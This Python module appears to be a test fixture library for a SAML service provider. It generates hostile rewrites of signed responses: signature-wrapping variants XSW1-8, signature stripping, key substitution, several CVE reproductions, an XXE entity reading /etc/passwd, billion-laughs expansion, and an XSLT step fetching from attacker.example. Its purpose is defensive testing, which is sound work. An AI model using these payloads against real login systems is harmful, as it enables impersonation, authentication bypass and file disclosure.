"""Hostile rewrites of a signed SAML Response, for tests of Portico's ACS and of sso.saml_guard.

Every public function takes the XML of a genuine signed response (as built by
`testidp.idp.TestIdP.build_response`) and returns tampered XML. They work on
the parsed tree with lxml, so they keep working whatever the IdP's prefixes and
whitespace, and they never touch the verifier: a test proves a defence only if
the payload is a faithful copy of the published attack.

XSW1-8 follow Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be"
(USENIX Security 2012), as implemented by SAML Raider's XSWHelpers; unlike SAML
Raider, the Extensions and Object wrappers get their proper namespaces.
"""
from __future__ import annotations

import base64
import copy
import hashlib
from collections.abc import Callable
from datetime import UTC, datetime, timedelta

from cryptography import x509
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from lxml import etree
from signxml import CanonicalizationMethod, DigestAlgorithm, SignatureConstructionMethod, SignatureMethod, XMLSigner

from testidp.keys import KeyPair

SAMLP_NS = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML_NS = "urn:oasis:names:tc:SAML:2.0:assertion"
DS_NS = "http://www.w3.org/2000/09/xmldsig#"
XENC_NS = "http://www.w3.org/2001/04/xmlenc#"
XSLT_TRANSFORM = "http://www.w3.org/TR/1999/REC-xslt-19991116"
EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
EMAIL_CLAIM = "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress"

EVIL_NAME_ID = "mallory@evil.example"
EVIL_RESPONSE_ID = "_evil_response_ID"
EVIL_ASSERTION_ID = "_evil_assertion_ID"


# --- XML Signature Wrapping (checklist row 1) ---


def xsw1(xml: str, *, name_id: str = EVIL_NAME_ID) -> str:
    """XSW1: evil Response at the root; a copy of the signed original Response goes inside its ds:Signature."""
    root = parse(xml)
    signature = _own_signature(root, "xsw1 needs a response signed over the Response")
    original = _without_own_signature(copy.deepcopy(root))
    _make_evil(root, name_id)
    root.set("ID", EVIL_RESPONSE_ID)
    signature.append(original)
    return serialize(root)


def xsw2(xml: str, *, name_id: str = EVIL_NAME_ID) -> str:
    """XSW2: evil Response at the root; a copy of the signed original Response sits just before its ds:Signature."""
    root = parse(xml)
    signature = _own_signature(root, "xsw2 needs a response signed over the Response")
    original = _without_own_signature(copy.deepcopy(root))
    _make_evil(root, name_id)
    root.set("ID", EVIL_RESPONSE_ID)
    signature.addprevious(original)
    return serialize(root)


def xsw3(xml: str, *, name_id: str = EVIL_NAME_ID) -> str:
    """XSW3: an unsigned evil Assertion is inserted before the signed one, as its sibling."""
    root = parse(xml)
    assertion = _assertion(root)
    evil = _evil_copy(assertion, name_id)
    assertion.addprevious(evil)
    return serialize(root)


def xsw4(xml: str, *, name_id: str = EVIL_NAME_ID) -> str:
    """XSW4: the signed Assertion is moved inside an unsigned evil Assertion."""
    root = parse(xml)
    assertion = _assertion(root)
    evil = _evil_copy(assertion, name_id)
    root.append(evil)
    evil.append(assertion)  # moves it
    return serialize(root)


def xsw5(xml: str, *, name_id: str = EVIL_NAME_ID) -> str:
    """XSW5: the Assertion is made evil in place (keeping the signature); an unsigned original copy goes last."""
    root = parse(xml)
    assertion = _assertion(root)
    original = _without_own_signature(copy.deepcopy(assertion))
    _make_evil(assertion, name_id)
    assertion.set("ID", EVIL_ASSERTION_ID)
    root.append(original)
    return serialize(root)


def xsw6(xml: str, *, name_id: str = EVIL_NAME_ID) -> str:
    """XSW6: the Assertion is made evil in place; the original copy is hidden inside its ds:Signature."""
    root = parse(xml)
    assertion = _assertion(root)
    signature = _own_signature(assertion, "xsw6 needs a signed Assertion")
    original = _without_own_signature(copy.deepcopy(assertion))
    _make_evil(assertion, name_id)
    assertion.set("ID", EVIL_ASSERTION_ID)
    signature.append(original)
    return serialize(root)


def xsw7(xml: str, *, name_id: str = EVIL_NAME_ID) -> str:
    """XSW7: an unsigned evil Assertion is placed in samlp:Extensions, before the signed one."""
    root = parse(xml)
    assertion = _assertion(root)
    extensions = etree.Element(f"{{{SAMLP_NS}}}Extensions")
    extensions.append(_evil_copy(assertion, name_id))
    _insert_extensions(root, extensions)
    return serialize(root)


def xsw8(xml: str, *, name_id: str = EVIL_NAME_ID) -> str:
    """XSW8: the Assertion is made evil in place (same ID); the original copy sits in a ds:Object of its signature."""
    root = parse(xml)
    assertion = _assertion(root)
    signature = _own_signature(assertion, "xsw8 needs a signed Assertion")
    original = _without_own_signature(copy.deepcopy(assertion))
    _make_evil(assertion, name_id)
    obj = etree.SubElement(signature, f"{{{DS_NS}}}Object")
    obj.append(original)
    return serialize(root)


XSW_ATTACKS: dict[str, Callable[[str], str]] = {
    "xsw1": xsw1,
    "xsw2": xsw2,
    "xsw3": xsw3,
    "xsw4": xsw4,
    "xsw5": xsw5,
    "xsw6": xsw6,
    "xsw7": xsw7,
    "xsw8": xsw8,
}


def duplicate_assertion_id(xml: str, *, name_id: str = EVIL_NAME_ID) -> str:
    """Duplicate ID: a samlp:Extensions carrying the signed Assertion's ID, so "#ID" resolves to two elements."""
    root = parse(xml)
    assertion = _assertion(root)
    extensions = etree.Element(f"{{{SAMLP_NS}}}Extensions", {"ID": assertion.get("ID", "")})
    attribute = etree.SubElement(extensions, f"{{{SAML_NS}}}Attribute", {"Name": EMAIL_CLAIM})
    etree.SubElement(attribute, f"{{{SAML_NS}}}AttributeValue").text = name_id
    _insert_extensions(root, extensions)
    return serialize(root)


def move_signature_to_response(xml: str) -> str:
    """Detached signature: the Assertion's ds:Signature moved onto the Response, still referencing the Assertion."""
    root = parse(xml)
    assertion = _assertion(root)
    signature = _own_signature(assertion, "needs a signed Assertion")
    own = root.find(f"{{{DS_NS}}}Signature")
    if own is not None:
        root.remove(own)
    issuer = root.find(f"{{{SAML_NS}}}Issuer")
    if issuer is not None:
        issuer.addnext(signature)
    else:
        root.insert(0, signature)
    return serialize(root)


# --- content changed after signing (row 2) ---


def change_name_id(xml: str, new_name_id: str = EVIL_NAME_ID) -> str:
    """Edit after signing: replace the NameID text, leaving the signature as it was."""
    root = parse(xml)
    _name_id(_assertion(root)).text = new_name_id
    return serialize(root)


def add_attribute(xml: str, name: str = "http://portico.example/claims/role", value: str = "admin") -> str:
    """Edit after signing: append an Attribute to the signed AttributeStatement."""
    root = parse(xml)
    statement = _assertion(root).find(f"{{{SAML_NS}}}AttributeStatement")
    if statement is None:
        raise ValueError("the assertion has no AttributeStatement")
    attribute = etree.SubElement(statement, f"{{{SAML_NS}}}Attribute", {"Name": name})
    etree.SubElement(attribute, f"{{{SAML_NS}}}AttributeValue").text = value
    return serialize(root)


# --- smuggled digest / SignedInfo (row 3) ---


def smuggle_digest_value(xml: str, *, name_id: str = EVIL_NAME_ID) -> str:
    """ruby-saml CVE-2024-45409: edit the Assertion and place its new digest in a DigestValue outside SignedInfo.

    The real SignedInfo (and so the SignatureValue) stays valid; a verifier that
    looks up "//ds:DigestValue" finds the smuggled one first.
    """
    root = parse(xml)
    assertion = _assertion(root)
    _make_evil(assertion, name_id)
    smuggled = etree.Element(f"{{{DS_NS}}}DigestValue", nsmap={"ds": DS_NS})
    smuggled.text = base64.b64encode(hashlib.sha256(_digest_input(assertion)).digest()).decode("ascii")
    extensions = etree.Element(f"{{{SAMLP_NS}}}Extensions")
    extensions.append(smuggled)
    _insert_extensions(root, extensions)
    return serialize(root)


def second_signed_info(xml: str, *, name_id: str = EVIL_NAME_ID) -> str:
    """xml-crypto CVE-2025-29775: a forged second SignedInfo, with the edited Assertion's digest, after the real one."""
    root = parse(xml)
    assertion = _assertion(root)
    signature = _own_signature(assertion, "needs a signed Assertion")
    _make_evil(assertion, name_id)
    forged = copy.deepcopy(signature.find(f"{{{DS_NS}}}SignedInfo"))
    forged.find(f".//{{{DS_NS}}}DigestValue").text = base64.b64encode(
        hashlib.sha256(_digest_input(assertion)).digest()
    ).decode("ascii")
    signature.find(f"{{{DS_NS}}}SignedInfo").addnext(forged)
    return serialize(root)


# --- signature removed (row 4) ---


def strip_signature(xml: str) -> str:
    """Signature stripping: remove every ds:Signature."""
    root = parse(xml)
    for signature in list(root.iter(f"{{{DS_NS}}}Signature")):
        signature.getparent().remove(signature)
    return serialize(root)


def remove_signature_value(xml: str) -> str:
    """Signature stripping: keep each ds:Signature but delete its SignatureValue."""
    root = parse(xml)
    for value in list(root.iter(f"{{{DS_NS}}}SignatureValue")):
        value.getparent().remove(value)
    return serialize(root)


# --- key substitution (row 5) ---


def resign_with(
    xml: str,
    keypair: KeyPair,
    *,
    name_id: str | None = EVIL_NAME_ID,
    edit: Callable[[etree._Element], None] | None = None,
    signature_algorithm: SignatureMethod = SignatureMethod.RSA_SHA256,
    digest_algorithm: DigestAlgorithm = DigestAlgorithm.SHA256,
    c14n_algorithm: CanonicalizationMethod = CanonicalizationMethod.EXCLUSIVE_XML_CANONICALIZATION_1_0,
) -> str:
    """Key substitution: edit, then re-sign every signed part with `keypair`, whose certificate goes in KeyInfo.

    With the IdP's own keypair (and name_id=None) this also makes legitimate
    variants: an `edit` the IdP could have made, or other algorithms.
    """
    root = parse(xml)
    assertion = _assertion(root)
    sign_assertion = _remove_own_signature(assertion)
    sign_response = _remove_own_signature(root)
    if name_id is not None:
        _make_evil(assertion, name_id)
    if edit is not None:
        edit(root)
    if sign_assertion:
        root = _sign(root, _assertion(root), keypair, signature_algorithm, digest_algorithm, c14n_algorithm)
    if sign_response:
        root = _sign(root, root, keypair, signature_algorithm, digest_algorithm, c14n_algorithm)
    return serialize(root)


def _xs_datetime(moment: datetime) -> str:
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def expire_conditions_only(xml: str, idp_keypair: KeyPair, *, ago: timedelta = timedelta(minutes=10)) -> str:
    """The Assertion's Conditions NotOnOrAfter passed while its SubjectConfirmationData still holds.

    Re-signed with the IdP's own key, so the signature, the confirmation window and everything else
    are right: only the Conditions check can refuse it.
    """
    now = datetime.now(UTC)

    def edit(root: etree._Element) -> None:
        conditions = _assertion(root).find(f"{{{SAML_NS}}}Conditions")
        assert conditions is not None
        conditions.set("NotBefore", _xs_datetime(now - ago - timedelta(minutes=5)))
        conditions.set("NotOnOrAfter", _xs_datetime(now - ago))

    return resign_with(xml, idp_keypair, name_id=None, edit=edit)


def conditions_not_yet_valid_only(xml: str, idp_keypair: KeyPair, *, ahead: timedelta = timedelta(minutes=10)) -> str:
    """The Assertion's Conditions NotBefore lies ahead; the confirmation window holds. Re-signed by the IdP."""
    now = datetime.now(UTC)

    def edit(root: etree._Element) -> None:
        conditions = _assertion(root).find(f"{{{SAML_NS}}}Conditions")
        assert conditions is not None
        conditions.set("NotBefore", _xs_datetime(now + ahead))

    return resign_with(xml, idp_keypair, name_id=None, edit=edit)


def confirmation_not_yet_valid_only(xml: str, idp_keypair: KeyPair, *, ahead: timedelta = timedelta(minutes=10)) -> str:
    """The bearer SubjectConfirmationData gets a NotBefore ahead; Conditions hold. Re-signed by the IdP."""
    now = datetime.now(UTC)

    def edit(root: etree._Element) -> None:
        for data in _assertion(root).iter(f"{{{SAML_NS}}}SubjectConfirmationData"):
            data.set("NotBefore", _xs_datetime(now + ahead))

    return resign_with(xml, idp_keypair, name_id=None, edit=edit)


def assertion_issuer_only(xml: str, idp_keypair: KeyPair, issuer: str = "https://sts.windows.net/another-tenant/") -> str:
    """Only the Assertion's Issuer names another IdP; the Response's Issuer is right. Re-signed by the IdP.

    For an assertion-signed response this is the Issuer the identity rests on.
    """

    def edit(root: etree._Element) -> None:
        element = _assertion(root).find(f"{{{SAML_NS}}}Issuer")
        assert element is not None
        element.text = issuer

    return resign_with(xml, idp_keypair, name_id=None, edit=edit)


def drop_assertion_issuer(xml: str, idp_keypair: KeyPair) -> str:
    """The Assertion has no Issuer at all (the Response's is right). Re-signed by the IdP."""

    def edit(root: etree._Element) -> None:
        assertion = _assertion(root)
        element = assertion.find(f"{{{SAML_NS}}}Issuer")
        assert element is not None
        assertion.remove(element)

    return resign_with(xml, idp_keypair, name_id=None, edit=edit)


def mismatch_in_response_to(xml: str, idp_keypair: KeyPair, other: str = "_another-request") -> str:
    """The Response's InResponseTo differs from the signed SubjectConfirmationData's. Re-signed by the IdP."""

    def edit(root: etree._Element) -> None:
        root.set("InResponseTo", other)

    return resign_with(xml, idp_keypair, name_id=None, edit=edit)


def set_version(xml: str, idp_keypair: KeyPair, *, on: str = "response", version: str = "1.1") -> str:
    """A Version other than 2.0 on the Response or the Assertion. Re-signed by the IdP."""

    def edit(root: etree._Element) -> None:
        (root if on == "response" else _assertion(root)).set("Version", version)

    return resign_with(xml, idp_keypair, name_id=None, edit=edit)


def paste_real_cert_over_attacker_signature(
    xml: str, attacker_keypair: KeyPair, real_cert_pem: str, *, name_id: str = EVIL_NAME_ID
) -> str:
    """pysaml2 CVE-2021-21239: sign with the attacker's key but show the IdP's real certificate in KeyInfo."""
    root = parse(resign_with(xml, attacker_keypair, name_id=name_id))
    real_b64 = _cert_base64(real_cert_pem)
    for cert in root.iter(f"{{{DS_NS}}}X509Certificate"):
        cert.text = real_b64
    return serialize(root)


def replace_keyinfo_with_rsakeyvalue(xml: str, attacker_keypair: KeyPair, *, name_id: str = EVIL_NAME_ID) -> str:
    """xml-crypto CVE-2024-32962: sign with the attacker's key and ship it as a bare ds:RSAKeyValue in KeyInfo."""
    root = parse(resign_with(xml, attacker_keypair, name_id=name_id))
    private_key = serialization.load_pem_private_key(attacker_keypair.key_pem.encode("ascii"), password=None)
    public_key = private_key.public_key()
    assert isinstance(public_key, rsa.RSAPublicKey)
    numbers = public_key.public_numbers()
    for key_info in list(root.iter(f"{{{DS_NS}}}KeyInfo")):
        for child in list(key_info):
            key_info.remove(child)
        rsa_value = etree.SubElement(etree.SubElement(key_info, f"{{{DS_NS}}}KeyValue"), f"{{{DS_NS}}}RSAKeyValue")
        etree.SubElement(rsa_value, f"{{{DS_NS}}}Modulus").text = _b64_int(numbers.n)
        etree.SubElement(rsa_value, f"{{{DS_NS}}}Exponent").text = _b64_int(numbers.e)
    return serialize(root)


# --- comment / text-node injection (row 6) ---


def inject_comment_in_name_id(xml: str, marked_up: str = "alice@corp.example<!---->.evil.example") -> str:
    """CVE-2017-11427: replace the NameID content with text split by a comment/PI; exc-c14n ignores comments."""
    root = parse(xml)
    set_markup(_name_id(_assertion(root)), marked_up)
    return serialize(root)


def inject_comment_in_attribute(
    xml: str, marked_up: str = "alice@corp.example<!---->.evil.example", *, name: str = EMAIL_CLAIM
) -> str:
    """CVE-2017-11427 on a claim: replace the first value of attribute `name` with comment-split text."""
    root = parse(xml)
    for attribute in _assertion(root).iter(f"{{{SAML_NS}}}Attribute"):
        if attribute.get("Name") == name:
            set_markup(attribute.find(f"{{{SAML_NS}}}AttributeValue"), marked_up)
            return serialize(root)
    raise ValueError(f"no attribute {name!r} in the assertion")


# --- parser and transform abuse, size (row 13) ---


def add_doctype_xxe(xml: str) -> str:
    """XXE (pysaml2 CVE-2016-10149): a DOCTYPE declaring an external entity, referenced from the NameID."""
    root = parse(xml)
    _name_id(_assertion(root)).text = "&xxe;"
    body = serialize(root).replace("&amp;xxe;", "&xxe;")
    return '<?xml version="1.0"?>\n<!DOCTYPE samlp:Response [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n' + body


def add_billion_laughs(xml: str) -> str:
    """Entity expansion ("billion laughs"): nested internal entities referenced from the NameID."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    root = parse(xml)
    _name_id(_assertion(root)).text = "&lol9;"
    body = serialize(root).replace("&amp;lol9;", "&lol9;")
    return '<?xml version="1.0"?>\n<!DOCTYPE samlp:Response [\n  ' + "\n  ".join(entities) + "\n]>\n" + body


def add_xslt_transform(xml: str) -> str:
    """XSLT transform: an XSLT step (run before the signature check by some verifiers) in the first Reference."""
    root = parse(xml)
    transforms = next(root.iter(f"{{{DS_NS}}}Transforms"))
    transform = etree.Element(f"{{{DS_NS}}}Transform", {"Algorithm": XSLT_TRANSFORM})
    stylesheet = etree.fromstring(
        '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
        '<xsl:template match="/"><xsl:copy-of select="document(\'http://attacker.example/x\')"/></xsl:template>'
        "</xsl:stylesheet>"
    )
    transform.append(stylesheet)
    transforms.insert(0, transform)
    return serialize(root)


def make_oversized(xml: str, size: int = 300 * 1024) -> str:
    """Oversized body: pad the response past `size` bytes with a comment (no signed content changes)."""
    root = parse(xml)
    root.append(etree.Comment(" " + "A" * size + " "))
    return serialize(root)


# --- editing helpers (public: tests build their own variants with them) ---


def parse(xml: str) -> etree._Element:
    """Parse a response for editing, keeping comments (a few attacks are about them)."""
    parser = etree.XMLParser(resolve_entities=False, no_network=True, remove_comments=False)
    return etree.fromstring(xml.encode("utf-8"), parser=parser)


def serialize(root: etree._Element) -> str:
    """The edited tree back to XML text, without an XML declaration."""
    return etree.tostring(root, encoding="unicode")


def _assertion(root: etree._Element) -> etree._Element:
    assertion = root.find(f"{{{SAML_NS}}}Assertion")
    if assertion is None:
        raise ValueError("the response has no Assertion")
    return assertion


def _name_id(assertion: etree._Element) -> etree._Element:
    name_id = assertion.find(f"{{{SAML_NS}}}Subject/{{{SAML_NS}}}NameID")
    if name_id is None:
        raise ValueError("the assertion has no NameID")
    return name_id


def _own_signature(element: etree._Element, error: str) -> etree._Element:
    signature = element.find(f"{{{DS_NS}}}Signature")
    if signature is None:
        raise ValueError(error)
    return signature


def _remove_own_signature(element: etree._Element) -> bool:
    signature = element.find(f"{{{DS_NS}}}Signature")
    if signature is None:
        return False
    element.remove(signature)
    return True


def _without_own_signature(element: etree._Element) -> etree._Element:
    _remove_own_signature(element)
    return element


def _make_evil(element: etree._Element, name_id: str) -> None:
    """Swap the victim's identity for `name_id` in the NameID and in every attribute value that repeats it."""
    name_ids = list(element.iter(f"{{{SAML_NS}}}NameID"))
    victims = {n.text for n in name_ids}
    for node in name_ids:
        node.text = name_id
    for value in element.iter(f"{{{SAML_NS}}}AttributeValue"):
        if value.text in victims:
            value.text = name_id


def _evil_copy(assertion: etree._Element, name_id: str) -> etree._Element:
    evil = _without_own_signature(copy.deepcopy(assertion))
    _make_evil(evil, name_id)
    evil.set("ID", EVIL_ASSERTION_ID)
    return evil


def _insert_extensions(root: etree._Element, extensions: etree._Element) -> None:
    # Schema position: after Issuer and Signature, before Status.
    status = root.find(f"{{{SAMLP_NS}}}Status")
    if status is not None:
        status.addprevious(extensions)
    else:
        root.insert(0, extensions)


def _digest_input(element: etree._Element) -> bytes:
    """What an enveloped exc-c14n Reference digests: the element without its own ds:Signature."""
    detached = etree.fromstring(etree.tostring(element))
    _remove_own_signature(detached)
    return etree.tostring(detached, method="c14n", exclusive=True, with_comments=False)


def set_markup(element: etree._Element, marked_up: str) -> None:
    """Replace `element`'s content with an XML fragment such as "a<!---->b"."""
    fragment = etree.fromstring(f"<x>{marked_up}</x>", parser=etree.XMLParser(remove_comments=False))
    for child in list(element):
        element.remove(child)
    element.text = fragment.text
    for child in fragment:
        element.append(child)


class _AnyAlgorithmSigner(XMLSigner):
    # signxml refuses to sign with SHA-1; an IdP still configured for it must be simulated.
    def check_deprecated_methods(self) -> None:
        return None


def _sign(
    root: etree._Element,
    target: etree._Element,
    keypair: KeyPair,
    signature_algorithm: SignatureMethod,
    digest_algorithm: DigestAlgorithm,
    c14n_algorithm: CanonicalizationMethod,
) -> etree._Element:
    """Enveloped signature over `target`, placed after its Issuer like Entra does; returns the new root."""
    placeholder = etree.Element(f"{{{DS_NS}}}Signature", {"Id": "placeholder"}, nsmap={"ds": DS_NS})
    issuer = target.find(f"{{{SAML_NS}}}Issuer")
    if issuer is not None:
        issuer.addnext(placeholder)
    else:
        target.insert(0, placeholder)
    signer = _AnyAlgorithmSigner(
        method=SignatureConstructionMethod.enveloped,
        signature_algorithm=signature_algorithm,
        digest_algorithm=digest_algorithm,
        c14n_algorithm=c14n_algorithm,
    )
    key = serialization.load_pem_private_key(keypair.key_pem.encode("ascii"), password=None)
    assert isinstance(key, rsa.RSAPrivateKey)  # the test IdP's keys are RSA
    key_info = etree.Element(f"{{{DS_NS}}}KeyInfo", nsmap={"ds": DS_NS})
    etree.SubElement(etree.SubElement(key_info, f"{{{DS_NS}}}X509Data"), f"{{{DS_NS}}}X509Certificate").text = (
        keypair.cert_base64
    )
    return signer.sign(root, key=key, key_info=key_info, reference_uri=f"#{target.get('ID')}", id_attribute="ID")


def _cert_base64(cert_pem: str) -> str:
    cert = x509.load_pem_x509_certificate(cert_pem.encode("ascii"))
    return base64.b64encode(cert.public_bytes(serialization.Encoding.DER)).decode("ascii")


def _b64_int(value: int) -> str:
    return base64.b64encode(value.to_bytes((value.bit_length() + 7) // 8, "big")).decode("ascii")
